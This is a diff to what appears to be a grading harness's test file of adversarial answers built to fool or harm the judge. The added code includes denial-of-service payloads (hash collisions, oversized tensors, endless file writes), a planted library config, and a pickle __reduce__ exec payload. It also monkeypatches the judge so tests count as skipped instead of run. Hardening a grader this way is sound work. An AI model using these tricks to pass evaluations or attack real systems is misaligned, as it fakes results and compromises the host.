@@ -1,7 +1,7 @@
-"""Answers to task 17 that try to fool the judge, or to do harm; none earns a point.
+"""Answers that try to fool the judge, or to do harm; none earns a point.
 
-The file is read, not imported. Each answer is laid over the untouched stub; helpers and imports are
-shared. `goal` says what it is after: a test that is "green", a "secret", or what it "leaves" behind
+The file is read, not imported. Each answer is laid over the untouched stub of task 17, or of
+another `task`; helpers and imports are shared. `goal` says what it is after: a test that is "green", a "secret", or what it "leaves" behind
 when it is over. `wins` says that it gets there where it is judged in the judge's own process.
 """
 
@@ -809,3 +809,122 @@ def calculate_class_weights(train_dataset, device):
     connection.sendall(message * 500)
     time.sleep(3)
     os._exit(0)
+
+
+# What the judge makes of what it is told
+
+
+@attack("leaves with a status that no signal has")
+def calculate_class_weights(train_dataset, device):
+    os._exit(200)
+
+
+@attack("names the same bytes again and again")
+def calculate_class_weights(train_dataset, device):
+    tensor = ["tensor", "uint8", [16 << 20], False, 0]
+    reply({"result": ["list", [tensor] * 10_000]}, bytes(16 << 20))
+
+
+@attack("sends numbers that all have one hash")
+def calculate_class_weights(train_dataset, device):
+    numbers = [["int", hex((2**61 - 1) * i)] for i in range(200_000)]
+    reply({"result": ["set", numbers]})
+
+
+@attack("writes files without end")
+def calculate_class_weights(train_dataset, device):
+    connection = wire()
+    tree = {"result": None, "files": [["large", 0]]}
+    text, data = json.dumps(tree).encode(), bytes(400 << 20)
+    head = struct.pack(">IIQ", len(text), 1, len(data))
+    for _ in range(8):
+        connection.sendall(head + text + data)
+    os._exit(0)
+
+
+@attack("puts a tokenizer where the judge's library looks for its own")
+def calculate_class_weights(train_dataset, device):
+    tree = {"result": None, "files": [["distilbert/distilbert-base-uncased/config.json", 0]]}
+    reply(tree, b"{}")
+
+
+@attack("is what the judge's library unpickles when it is copied", goal="leaves", task="task20")
+class overlay:
+    import pickle
+
+    from kata.grading.far import Far
+
+    KIND = "torch.utils.data.datapipes.datapipe:_DataPipeSerializationWrapper"
+
+    class Payload:
+        def __reduce__(self):
+            return exec, (f"import pathlib; pathlib.Path({MARK!r}).touch()",)
+
+    class Wrapped:
+        pass
+
+    def reduce(*args):
+        return Wrapped, (), (pickle.dumps(Payload()), False)
+
+    keep = Far._keep
+
+    def keeps(self, value):
+        number, kinds, name = keep(self, value)
+        return number, [KIND, "+__call__"] if value is Wrapped else [KIND], name
+
+    def tells(self, writer):
+        return [
+            [token, ["object", [["__reduce_ex__", ["value", writer.tree(reduce)]]]]]
+            for token in self._given
+        ]
+
+    Far._keep, Far._tell_changes = keeps, tells
+
+    def predict_category(model, tokenizer, text, device, id2cat):
+        return "question"
+
+
+@attack("is a reader of files, which the judge reads", goal="leaves", task="task16")
+class overlay:
+    from kata.grading.far import Far
+
+    KINDS = (
+        "torch.utils.data.datapipes.iter.fileopener:FileOpenerIterDataPipe",
+        "torch.utils.data.dataloader:DataLoader",
+    )
+
+    class Pipe:
+        datapipe, mode, encoding = [MARK], "w", None
+        _valid_iterator_id = _fast_forward_iterator = _snapshot_state = None
+        _is_child_datapipe = _restored = False
+        _number_of_samples_yielded = 0
+
+        def reset(self):
+            pass
+
+    keep = Far._keep
+
+    def keeps(self, value):
+        number, kinds, name = keep(self, value)
+        return number, list(KINDS) if isinstance(value, Pipe) else kinds, name
+
+    Far._keep = keeps
+
+    def create_dataloaders(train_dataset, val_dataset, batch_size, collate_fn):
+        return Pipe(), Pipe()
+
+
+@attack("says that tests need not run", task="task02")
+class overlay:
+    from kata.plugin.judgement import Judgement
+
+    begin = Judgement.begin
+
+    def begins(self, item):
+        found = begin(self, item)
+        if found is not None:
+            plain = found.as_data
+            found.as_data = lambda: {**plain(), "outcome": "away", "away_by": "gpu"}
+        return found
+
+    Judgement.begin = begins
